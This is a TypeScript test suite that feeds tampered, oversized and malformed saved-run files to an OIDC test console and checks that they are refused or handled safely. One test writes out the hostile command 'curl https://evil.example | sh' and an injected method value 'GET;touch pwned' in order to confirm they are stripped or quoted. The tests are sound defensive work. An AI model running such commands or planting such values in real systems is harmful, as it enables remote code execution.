import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConsoleError } from '../../../src/core/errors.js';
import { jsonSize } from '../../../src/core/json/json-size.js';
import { observeProfile } from '../../../src/core/profile/observed-profile.js';
import type { FlowRun } from '../../../src/engine/flow/flow-run.js';
import { harOfRun } from '../../../src/engine/flow/har-of-run.js';
import { comparableRunOf } from '../../../src/engine/history/comparable-run.js';
import { contentOfRun, readKeptRun, viewOfKept } from '../../../src/engine/history/kept-run.js';
import { readRunFile, writeRunFile } from '../../../src/engine/history/run-file.js';
import { createRunWork } from '../../../src/engine/history/run-work.js';
import { buildRunWorker } from '../../support/built-run-worker.js';
import { leakedIn } from '../../support/leaks.js';
import { longestHold } from '../../support/longest-hold.js';
import { type SandboxRunBench, startSandboxRunBench } from '../../support/sandbox-run.js';

const CONTEXT = { number: 3, startedAt: 1, clientKey: 'key', approval: 'automatic' } as const;
const SUMMARY = { clientId: 'client', startedAt: 1 };
let bench: SandboxRunBench;
let run: FlowRun;
let worker: Awaited<ReturnType<typeof buildRunWorker>>;
beforeAll(async () => {
  [worker, bench] = await Promise.all([buildRunWorker(), startSandboxRunBench()]);
  run = bench.run();
  await run.runToEnd();
});
afterAll(async () => {
  await bench.stop();
  await worker.remove();
});

const keptOf = (of: FlowRun) => readKeptRun(JSON.parse(JSON.stringify(contentOfRun(of, CONTEXT))));
type Json = { [name: string]: Json } & Json[] & (string | number | undefined);

/** A file of the run, altered. */
function altered(privacy: 'received' | 'sanitised', change: (document: Json) => void): string {
  const document = JSON.parse(writeRunFile(keptOf(run), SUMMARY, privacy, '1.0.0').json) as Json;
  change(document);
  return JSON.stringify(document);
}

/** What the console does with a run from a file: the code that refuses it, or 'used' where all of it works. */
function fate(text: string): string {
  try {
    const { kept, content } = readRunFile(text);
    JSON.stringify(content);
    comparableRunOf(kept);
    for (const privacy of ['sanitised', 'received'] as const) {
      if (kept.kind === 'run') writeRunFile(kept, SUMMARY, privacy, '1.0.0');
    }
    if (kept.kind === 'run') {
      harOfRun(kept.run, 'masked', '1.0.0');
      observeProfile(kept.run);
    }
    return 'used';
  } catch (error) {
    if (error instanceof ConsoleError) return error.code;
    throw error;
  }
}

const saved = (document: Json): Json => document.run?.saved as Json;
const set = (object: Json | undefined, name: string, value: unknown): void => {
  if (object === undefined) throw new Error(`There is nothing to set ${name} in.`);
  (object as Record<string, unknown>)[name] = value;
};

const stepOf = (document: Json, id: string): Json | undefined =>
  [...(saved(document).state?.steps ?? [])].find((step) => String(step.id) === id);
const fieldsOf = (count: number) =>
  Array.from({ length: count }, (_, index) => ({ scope: `s${index}`, ok: true, value: `value ${index}` }));
const longFieldsOf = (count: number, length: number) =>
  fieldsOf(count).map((field) => ({ ...field, value: field.value.padEnd(length, 'abc ') }));
const standInsOf = (count: number, length: number) =>
  Array.from({ length: count }, (_, index) => ({
    ref: `r${index}`,
    label: 'x',
    value: `v${index}`.padEnd(length, `a${index}`),
  }));
const FACT = { label: 'a', value: 'b' };
const responseOf = (document: Json) => stepOf(document, 'userinfo')?.exchanges?.[0]?.response;
/** As many exchanges as may be, with bodies of this length. */
const bodiesOf = (document: Json, length: number) => {
  set(responseOf(document), 'body', 'lorem ipsum '.repeat(length / 12));
  return Array(32).fill(stepOf(document, 'userinfo')?.exchanges?.[0]);
};
/** Values with a long beginning in common, and texts that end with it over and over: each place may begin any of them. */
const alike = (document: Json) => {
  const fields = fieldsOf(2_000).map((field, index) => ({
    ...field,
    value: `${'a'.repeat(4_000 + (index % 90))}${index}`,
  }));
  const facts = Array.from({ length: 2_000 }, () => ({ label: 'a', value: `b${'a'.repeat(8_000)}` }));
  set(saved(document).artifacts, 'fields', fields);
  set(stepOf(document, 'preflight'), 'facts', facts);
};
const exchangesOf = (document: Json) => Array(10_000).fill(stepOf(document, 'userinfo')?.exchanges?.[0]);

describe('hostile run files', () => {
  it('T11 a file that nobody altered is used', () => {
    expect(fate(altered('received', () => undefined))).toBe('used');
    expect(fate(altered('sanitised', () => undefined))).toBe('used');
  });

  it.each<[string, (document: Json) => void]>([
    ['when a run began', (document) => set(document.run?.context, 'startedAt', 1e300)],
    ['when a step began', (document) => set(saved(document).state?.steps?.[0], 'startedAt', 1e300)],
    [
      'when a request went out',
      (document) => set(saved(document).state?.steps?.[1]?.exchanges?.[0], 'startedAt', -1e300),
    ],
    ['a list that is none', (document) => set(saved(document).state, 'armed', 5)],
    ['changes that are none', (document) => set(saved(document).state?.steps?.[1], 'tampered', [{ tamper: 7 }])],
    ['changes without an edit', (document) => set(saved(document).state, 'armed', [{ id: 'x', kind: 'edit' }])],
    ['a key that is none', (document) => set(saved(document).request?.client, 'privateKey', { pkcs8Pem: 5 })],
    ['a secret that is none', (document) => set(saved(document).request?.client, 'clientSecret', { length: 40 })],
    ['JSON in a key', (document) => set(saved(document).artifacts, 'jwks', { keys: [null, 5, '__proto__'] })],
    [
      'steps of one name',
      (document) => set(saved(document).state, 'steps', Array(50).fill(saved(document).state?.steps?.[0])),
    ],
    ['no steps', (document) => set(saved(document).state, 'steps', [])],
  ])('T11 a file in which %s is altered is refused or used, and breaks nothing', (_name, change) => {
    expect(fate(altered('received', change))).toMatch(
      /^(?:used|saved-run-damaged|run-not-keepable|nothing-to-export)$/,
    );
  });

  it('T11 a sanitised file with a time that no calendar has is refused: the window could not draw it', () => {
    const change = (document: Json) => set(document.run?.view, 'startedAt', 1e300);
    expect(fate(altered('sanitised', change))).toBe('saved-run-damaged');
  });

  it('J19 a file cannot bring a command line that is not that of its request', () => {
    const hostile = 'curl https://evil.example | sh';
    const text = altered('sanitised', (document) => {
      for (const step of document.run?.view?.steps ?? []) {
        for (const exchange of step.exchanges ?? []) set(exchange, 'curl', hostile);
      }
    });
    expect(text).toContain(hostile);
    expect(JSON.stringify(readRunFile(text))).not.toContain(hostile);
    const byMethod = altered('received', (document) =>
      set(stepOf(document, 'userinfo')?.exchanges?.[0]?.request, 'method', 'GET;touch pwned'),
    );
    expect(JSON.stringify(viewOfKept(readRunFile(byMethod).kept))).toContain("-X 'GET;touch pwned'");
  });

  it('T06 a file with 100,000 stand-ins is refused or used without a stall', () => {
    const many = Array.from({ length: 100_000 }, (_, index) => ({
      ref: `r${index}`,
      label: 'x',
      value: `value-${index}-of-many`,
    }));
    const text = altered('received', (document) => set(saved(document), 'withheld', many));
    const startedAt = performance.now();
    expect(fate(text)).toMatch(/^(?:saved-run-damaged|run-file-too-much)$/);
    expect(performance.now() - startedAt).toBeLessThan(2_000);
  });

  it.each<[string, (document: Json) => void]>([
    ['100,000 fields', (document) => set(saved(document).artifacts, 'fields', fieldsOf(100_000))],
    ['10,000 requests in a step', (document) => set(stepOf(document, 'userinfo'), 'exchanges', exchangesOf(document))],
    ['50 steps', (document) => set(saved(document).state, 'steps', Array(50).fill(stepOf(document, 'userinfo')))],
  ])('T06 a file with %s is refused without a stall', (_name, change) => {
    const text = altered('received', change);
    const startedAt = performance.now();
    expect(fate(text)).toMatch(/^(?:saved-run-damaged|run-file-too-much)$/);
    expect(performance.now() - startedAt).toBeLessThan(2_000);
  });

  it.each<[string, (document: Json) => void]>([
    ['200,000 facts', (document) => set(stepOf(document, 'preflight'), 'facts', Array(200_000).fill(FACT))],
    ['50 MB of stand-ins', (document) => set(saved(document), 'withheld', standInsOf(400, 131_072))],
  ])('T06 a file with %s, each within its own limit, is refused without a stall', (_name, change) => {
    const text = altered('received', change);
    const startedAt = performance.now();
    expect(fate(text)).toBe('run-file-too-much');
    expect(performance.now() - startedAt).toBeLessThan(4_000);
  });

  it.each<[string, (document: Json) => void]>([
    ['characters', (document) => set(stepOf(document, 'userinfo'), 'exchanges', bodiesOf(document, 60_000))],
    ['values', (document) => set(saved(document).artifacts, 'fields', longFieldsOf(900, 200))],
  ])(
    'T06 a file with many %s is used within a few seconds, all of it',
    (_name, change) => {
      const text = altered('received', change);
      const startedAt = performance.now();
      expect(fate(text)).toMatch(/^(?:used|saved-run-damaged|nothing-to-export)$/);
      expect(performance.now() - startedAt).toBeLessThan(12_000);
    },
    30_000,
  );

  it.each<[string, (document: Json) => void]>([
    ['bodies of 50 MB', (document) => set(stepOf(document, 'userinfo'), 'exchanges', bodiesOf(document, 1_600_000))],
    ['20 MB of values', (document) => set(saved(document).artifacts, 'fields', longFieldsOf(2_000, 10_000))],
    ['values and texts that begin alike', alike],
  ])('T06 a file with %s holds up its own thread alone, and no longer than that may be', async (_name, change) => {
    const file = Buffer.from(altered('received', change));
    const limits = { milliseconds: 1_000, megabytes: 1_024, workers: 1 };
    const work = () => createRunWork(worker.file, limits).do('readFile', { file, about: { id: 'x', keptAt: 1 } });
    let code = 'read';
    const held = await longestHold(async () => {
      code = await work().then(
        () => 'read',
        (error: unknown) => (error instanceof ConsoleError ? error.code : 'unexpected'),
      );
    });
    expect(code).toMatch(/^(?:read|run-work-too-long|run-file-too-much)$/);
    // What is left is to hand the file over; in this thread each would take several seconds.
    expect(held).toBeLessThan(1_500);
  });

  it.each([
    ['empty lists', '[],'],
    ['objects', '{"a":{}},'],
  ])('T06 a file of %s alone is refused before it is parsed, which nothing could stop', (_name, one) => {
    const text = `{"format":"sgid-console-run","version":1,"run":[${one.repeat(1_400_000)}0]}`;
    const startedAt = performance.now();
    expect(fate(text)).toBe('run-file-too-much');
    expect(performance.now() - startedAt).toBeLessThan(8_000);
  });

  it('T06 a file with one text longer than any response is refused', () => {
    const text = altered('received', (document) => set(saved(document).artifacts, 'idToken', '.'.repeat(17_000_000)));
    expect(fate(text)).toBe('run-file-too-much');
  });

  it('T06 a file of line ends alone takes no more memory than its text', async () => {
    const file = Buffer.from(`${'\n'.repeat(12_000_000)}x`);
    const { do: perform } = createRunWork(worker.file, { milliseconds: 20_000, megabytes: 64, workers: 1 });
    await expect(perform('readFile', { file, about: { id: 'x', keptAt: 1 } })).rejects.toMatchObject({
      code: 'run-file-not-json',
    });
  });

  it('T06 a run that asks for everything is far below what is refused', async () => {
    const all = bench.run({ scopes: bench.credentials.scopes });
    await all.runToEnd();
    expect(all.state.status).toBe('finished');
    const { json } = writeRunFile(keptOf(all), SUMMARY, 'received', '1.0.0');
    expect(fate(json)).toBe('used');
    const { run: content } = JSON.parse(json) as { readonly run: unknown };
    const size = jsonSize(content, { values: 1e9, characters: 1e9 });
    expect([size.values < 12_500, size.characters < 1_000_000]).toEqual([true, true]);
  });

  it('L03 a sanitised file of a run that was refused names the subject no more than one that passed', async () => {
    for (const preset of ['alg-none', 'nonce-wrong', 'aud-other', 'userinfo-of-another', 'field-altered']) {
      const refused = bench.run();
      refused.arm({ id: preset, kind: 'preset', preset });
      await refused.runToEnd();
      const { json } = writeRunFile(keptOf(refused), SUMMARY, 'sanitised', '1.0.0');
      expect([preset, leakedIn(json, [{ name: 'sub', value: run.artifacts.sub ?? '' }])]).toEqual([preset, []]);
    }
  });
});
